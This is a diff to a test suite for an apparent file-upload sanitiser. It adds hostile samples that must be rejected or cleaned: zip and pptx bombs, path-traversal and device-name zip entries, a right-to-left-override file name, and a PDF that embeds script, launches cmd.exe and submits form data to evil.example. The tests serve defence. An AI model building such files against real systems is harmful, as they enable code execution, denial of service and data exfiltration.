@@ -168,6 +168,19 @@ HOSTILE = {
     "activex": ("library", make.office(parts={"word/activeX/activeX1.xml": b"<x/>"}), "a.docx", {422}),
     "ole object": ("library", make.office(parts={"word/embeddings/oleObject1.bin": ole("Package")}), "a.docx", {422}),
     "program in pptx": ("library", make.office("pptx", {"ppt/media/x.wav": b"MZ" + bytes(99)}), "a.pptx", {422}),
+    "pptx bomb": ("library", lambda: make.office("pptx", {"ppt/media/a.png": bytes(40_000_000)}), "a.pptx", {422}),
+    "pptx bomb of a workbook": (
+        "library",
+        lambda: make.office("pptx", {"ppt/embeddings/a.xlsx": make.office("xlsx", {"xl/a.bin": bytes(40_000_000)})}),
+        "a.pptx",
+        {422},
+    ),
+    "pptx of 3000 parts": (
+        "library",
+        lambda: make.office("pptx", {f"ppt/slides/slide{n}.xml": b"<a/>" for n in range(3000)}),
+        "a.pptx",
+        {422},
+    ),
     "html part": ("library", make.office(parts={"word/afchunk.html": HTML}), "a.docx", {422}),
     "template from elsewhere": (
         "library",
@@ -215,7 +228,7 @@ HOSTILE = {
     "zip backslash": ("library", make.archive({"..\\x.txt": b"a"}), "a.zip", {422}),
     "zip drive": ("library", make.archive({"C:x.txt": b"a"}), "a.zip", {422}),
     "zip symlink": ("library", make.archive([(link_info("a.txt"), b"/etc/passwd")]), "a.zip", {422}),
-    "zip device": ("library", make.archive([(link_info("a.txt", 0o060666), b"x")]), "a.zip", {422}),
+    "zip block device": ("library", make.archive([(link_info("a.txt", 0o060666), b"x")]), "a.zip", {422}),
     "zip of too many": (
         "library",
         lambda: make.archive({f"{n}.txt": b"x" for n in range(ZIP_MAX_ENTRIES + 1)}),
@@ -225,6 +238,11 @@ HOSTILE = {
     "zip bomb": ("library", lambda: make.archive({"a.txt": b" " * 30_000_000}), "a.zip", {422}),
     "zip in zip": ("library", make.archive({"b.zip": make.archive({"a.txt": b"x"})}), "a.zip", {422}),
     "zip overlapping": ("library", overlapping(), "a.zip", {422}),
+    "zip device": ("library", make.archive({"a/CON.txt": b"a"}), "a.zip", {422}),
+    "zip device folder": ("library", make.archive({"lpt1/a.txt": b"a"}), "a.zip", {422}),
+    "zip that turns names around": ("library", make.archive({"anh\u202egpj.txt": b"a"}), "a.zip", {422}),
+    "zip same name twice": ("library", make.archive([("a.txt", b"x"), ("a.txt", b"y")]), "a.zip", {422}),
+    "zip dots inside": ("library", make.archive({"a/../../x.txt": b"a"}), "a.zip", {422}),
     "zip twins": ("library", make.archive([("A.txt", b"x"), ("a.txt", b"y")]), "a.zip", {422}),
     "zip with svg": ("library", make.archive({"a.svg": b"<svg/>"}), "a.zip", {422}),
     "zip with exe": ("library", make.archive({"doc.pdf": b"MZ" + bytes(99)}), "a.zip", {422}),
@@ -434,6 +452,30 @@ def personal_pdf(document):
     page.Annots = document.make_indirect(Array([document.make_indirect(note), document.make_indirect(run)]))
 
 
+def acting_pdf(document):
+    """Everything that runs or opens something, besides what personal_pdf has: XFA, RichMedia, GoToE, an open Launch."""
+    form = document.make_stream(f"<xdp:xdp><script>{CANARY}</script></xdp:xdp>".encode())
+    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array(["template", form]))
+    document.Root.OpenAction = Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P=CANARY))
+    document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=CANARY))
+    document.Root.Names = Dictionary(
+        JavaScript=Dictionary(
+            Names=Array(["a", Dictionary(S=Name.JavaScript, JS=document.make_stream(CANARY.encode()))])
+        ),
+    )
+    opens = Dictionary(S=Name.GoToE, F=CANARY, T=Dictionary(R=Name.C, N=CANARY))
+    submits = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=f"https://evil.example/{CANARY}"))
+    box = Array([0, 0, 9, 9])
+    kinds = [
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=opens),
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=submits),
+        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=box, A=Dictionary(S=Name.Rendition, JS=CANARY)),
+        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=box, RichMediaContent=Dictionary(X=CANARY)),
+        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=box, FS=Dictionary(F=CANARY)),
+    ]
+    document.pages[0].Annots = Array([document.make_indirect(kind) for kind in kinds])
+
+
 #: Files that carry a name and a place; `b"GPS"`-like bytes are searched besides the canary.
 PERSONAL = {
     "jpeg": ("image", make.picture(exif=make.exif(), comment=CANARY)),
@@ -452,6 +494,9 @@ PERSONAL = {
     "mp3 cover": ("library", make.id3_art),
     "m4a": ("library", lambda: make.media("m4a", "-c:a", "aac", *TAGS, image=False)),
     "pdf": ("library", lambda: make.pdf(edit=personal_pdf)),
+    "pdf that acts": ("library", lambda: make.pdf(edit=acting_pdf)),
+    "pdf that acts, as a document": ("document", lambda: make.pdf(edit=acting_pdf)),
+    "pdf that acts, as a consent": ("consent_paper", lambda: make.pdf(edit=acting_pdf)),
     "docx": (
         "library",
         make.office(
@@ -486,7 +531,16 @@ def test_name_and_place_are_gone(case):
     assert any(trace in all_bytes(original) for trace in traces), "the sample carries nothing to remove"
     with accept_upload(profile, io.BytesIO(original), name="a") as accepted:
         cleaned = all_bytes(accepted.file.read())
-    for trace in (*traces, b"Exif\x00\x00II", b"\xa9xyz", b"loci", b"/JavaScript", b"/Launch", b"/EmbeddedFile"):
+    for trace in (
+        *traces,
+        b"Exif\x00\x00II",
+        b"\xa9xyz",
+        b"loci",
+        b"/JavaScript",
+        b"/Launch",
+        b"/EmbeddedFile",
+        b"/XFA",
+    ):
         assert trace not in cleaned
 
 
